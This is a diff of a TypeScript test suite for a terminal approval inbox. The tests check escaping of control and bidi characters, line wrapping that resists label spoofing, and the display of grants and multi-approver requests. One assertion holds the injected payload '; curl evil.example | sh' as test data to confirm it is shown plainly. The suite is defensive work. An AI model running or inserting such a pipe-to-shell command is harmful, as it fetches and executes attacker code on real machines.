@@ -58,7 +58,7 @@ const ceremony = {
 }
 
 /** An approver at a terminal, for a service that returns these ceremonies. */
-const setUp = async (given: object, listed: object = {}, state = 'active') => {
+const setUp = async (given: object, listed: object = {}, state = 'active', decided: object = {}) => {
   const io = memoryIo({ tty: true })
   const posted: Record<string, unknown>[] = []
   const answers: Record<string, (input: Record<string, unknown>) => unknown> = {
@@ -67,7 +67,7 @@ const setUp = async (given: object, listed: object = {}, state = 'active') => {
     'user get': () => ({ state }),
     'approve decide': (input) => {
       posted.push(input)
-      return record({ status: input.decision === 'approve' ? 'approved' : 'denied' })
+      return record({ status: input.decision === 'approve' ? 'approved' : 'denied', ...decided })
     },
   }
   const call = async (operation: Operation, input: Record<string, unknown>): Promise<Answer> => ({
@@ -86,19 +86,21 @@ const setUp = async (given: object, listed: object = {}, state = 'active') => {
   return { io, posted, context, device: await createSoftwareDevice(mine, context) }
 }
 
+const said = (user_id: string, answer: string) => ({ user_id, name: 'N', mobile: '', answer })
+
 const unasked = (): never => {
   throw new Error('nobody asked for this')
 }
 
 /** Answers each prompt in turn. Any further prompt fails the test. */
-const scripted = (picks: string[], agrees = true, shown: string[] = []): Prompt => {
+const scripted = (picks: string[], agrees = true, shown: string[] = [], confirmed: string[] = []): Prompt => {
   return {
     text: async (question) =>
       /itude/.test(question) ? '52.52' : question.startsWith('Note') ? ' Not now ' : '42',
     secret: unasked,
     select: unasked,
     tick: unasked,
-    confirm: async () => agrees,
+    confirm: async (question) => confirmed.push(question) > 0 && agrees,
     selectUntil: async (_, choices) => {
       shown.push(...choices.map(({ name }) => name))
       return picks.shift()!
@@ -170,12 +172,12 @@ describe('the data that an approver signs', () => {
 describe('svc approve inbox, at a terminal', () => {
   test('shows the signed text, with unsafe characters escaped', async () => {
     const { screen } = await decides(['apr_1', 'back'])
-    expect(screen).toContain('Action     Call deploy \\u{202e}4.2\\u{0007} on ci')
-    expect(screen).toContain('             - stage: prod')
+    expect(screen).toContain('Action      Call deploy \\u{202e}4.2\\u{0007} on ci')
+    expect(screen).toContain('              - stage: prod')
     expect(screen).toContain(
-      `"Deploy \\u{202e}4.2\\u0007" (in the requester's words, not \n             verified)`,
+      `"Deploy \\u{202e}4.2\\u0007" (in the requester's words, not \n              verified)`,
     )
-    expect(screen).toContain('Requester  "ci\\u001b[2J" (claimed, not verified)')
+    expect(screen).toContain('Requester   "ci\\u001b[2J" (claimed, not verified)')
     for (const raw of ['\u202e', '\u0007', '\u001b']) expect(screen).not.toContain(raw)
   })
   test('shows the whole of a long value, and begins no line with foreign text', async () => {
@@ -189,9 +191,9 @@ describe('svc approve inbox, at a terminal', () => {
     })
     const lines = shown.split('\n')
     expect(lines.every((line) => line.length < 80)).toBe(true)
-    expect(lines.map((line) => line.slice(15)).join('')).toContain('; curl evil.example | sh')
+    expect(lines.map((line) => line.slice(16)).join('')).toContain('; curl evil.example | sh')
     expect(
-      lines.filter((line) => /^ {0,14}\S/.test(line)).map((line) => line.trim().split(/[ :]/)[0]),
+      lines.filter((line) => /^ {0,15}\S/.test(line)).map((line) => line.trim().split(/[ :]/)[0]),
     ).not.toContain('key')
     expect(lines.filter((line) => line.startsWith('  Credential'))).toEqual([])
   })
@@ -202,13 +204,13 @@ describe('svc approve inbox, at a terminal', () => {
       deny: encoded({ requester: name, decision: 'deny' }),
     }
     const { screen } = await decides(['apr_1', 'back'], { ...ceremony, contexts })
-    expect(screen).toContain(String.raw`  Requester  "GitHub\" (verified) \"" (claimed, not verified)`)
+    expect(screen).toContain(String.raw`  Requester   "GitHub\" (verified) \"" (claimed, not verified)`)
   })
   test('shows the verified credential, the claimed name and the address apart', async () => {
     const given = { ...ceremony, verified_as: 'key "ci"', requested_from: '203.0.113.7' }
     const { screen } = await decides(['apr_1', 'back'], given)
-    expect(screen).toContain('  Credential key "ci" (verified)\n  Requester  "ci')
-    expect(screen).toContain('  From       203.0.113.7\n')
+    expect(screen).toContain('  Credential  key "ci" (verified)\n  Requester   "ci')
+    expect(screen).toContain('  From        203.0.113.7\n')
   })
   test('shows the owner of the key in lines of their own, and warns of a twin', async () => {
     const owner = {
@@ -225,10 +227,10 @@ describe('svc approve inbox, at a terminal', () => {
     const { screen } = await decides(['apr_1', 'back'], { ...ceremony, contexts })
     expect(screen).toContain(
       [
-        '  Owner      "Ada L (user 1)" (confirmed on their device)',
-        '  Owner id   user 9, mobile ••••••••0109',
-        '  Warning    another member has the same or a similar name: check the mobile ',
-        '             number',
+        '  Owner       "Ada L (user 1)" (confirmed on their device)',
+        '  Owner id    user 9, mobile ••••••••0109',
+        '  Warning     another member has the same or a similar name: check the mobile ',
+        '              number',
         '',
       ].join('\n'),
     )
@@ -258,7 +260,7 @@ describe('svc approve inbox, at a terminal', () => {
   })
   test('prompts for the location if a rule requires one', async () => {
     const { posted, screen } = await decides(['apr_1', 'approve'], { ...ceremony, location_required: true })
-    expect(screen).toContain('Location   required by a rule')
+    expect(screen).toContain('Location    required by a rule')
     expect(posted).toMatchObject([
       { location: { latitude: 52.52, longitude: 52.52, accuracy_m: 0, age_ms: 0 } },
     ])
@@ -273,6 +275,55 @@ describe('svc approve inbox, at a terminal', () => {
     )
     expect(posted).toMatchObject([{ location: place }])
     expect((await decides(['apr_1', 'deny'], ceremony, true, place)).posted[0]).not.toHaveProperty('location')
+  })
+  test('names the grant in the last question and after it', async () => {
+    const grant = { seconds: 3600, uses: 20, free: [] }
+    const { io, context, device } = await setUp({ ...ceremony, grant })
+    const asked: string[] = []
+    await runInbox({ device }, scripted(['apr_1', 'grant', 'leave'], true, [], asked), context)
+    expect(asked[0]).toMatch(
+      /^Sign the approval of: .* on ci, and allow for 1 hour, up to 20 times: exactly this\?$/,
+    )
+    expect(io.err()).toContain(
+      'The request is approved, and allowed for 1 hour, up to 20 times: exactly this.\n',
+    )
+  })
+  test('names no grant when it is approved once', async () => {
+    const grant = { seconds: 3600, uses: 20, free: [] }
+    const { io, context, device } = await setUp({ ...ceremony, grant })
+    const asked: string[] = []
+    await runInbox({ device }, scripted(['apr_1', 'approve', 'leave'], true, [], asked), context)
+    expect(asked[0]).not.toContain('allow')
+    expect(io.err()).toContain('The request is approved.\n')
+  })
+  test.each([
+    ['pending', 2],
+    ['approved', 1],
+    ['denied', 1],
+  ])('offers a request of several only to who has not answered: %s', async (own, choices) => {
+    const lines = [{ people: [said('8', 'approved'), said('7', own)], need: 2 }]
+    const { context, device } = await setUp(ceremony, { lines })
+    const shown: string[] = []
+    await runInbox({ device }, scripted(['leave'], true, shown), context)
+    expect(shown).toHaveLength(choices)
+    expect(shown.at(-1)).toBe('Leave')
+  })
+  test('says that the answer of one of several counts', async () => {
+    const pending = { status: 'pending', detail: '1 of 2 approved; waiting for Grace' }
+    const { io, context, device } = await setUp(ceremony, {}, 'active', pending)
+    await runInbox({ device }, scripted(['apr_1', 'approve', 'leave']), context)
+    expect(io.err()).toContain(
+      'Your approval counts. The request is pending: 1 of 2 approved; waiting for Grace.\n',
+    )
+  })
+  test('separates each label from its value', async () => {
+    const break_glass = { reason: 'prod down', skipped: ['8'] }
+    const contexts = {
+      approve: encoded({ break_glass }),
+      deny: encoded({ break_glass, decision: 'deny' }),
+    }
+    const { screen } = await decides(['apr_1', 'back'], { ...ceremony, contexts })
+    expect(screen).toMatch(/^ {2}Break-glass "prod down": the people/m)
   })
   test('signs nothing when the approver goes back or does not confirm', async () => {
     expect((await decides(['apr_1', 'back'])).posted).toEqual([])
@@ -290,5 +341,5 @@ test('says that nobody can ask somebody who was removed', async () => {
 test('shows the times of a request with their zone', async () => {
   const { screen } = await decides(['apr_1', 'back'])
   const time = String.raw`\d\d:\d\d:\d\d (?:[A-Z]{3,4}|GMT[+-]\d+(?::\d\d)?)`
-  expect(screen).toMatch(new RegExp(`Requested  ${time}\n  Until      ${time}, \\d+:\\d\\d left\n`))
+  expect(screen).toMatch(new RegExp(`Requested   ${time}\n  Until       ${time}, \\d+:\\d\\d left\n`))
 })
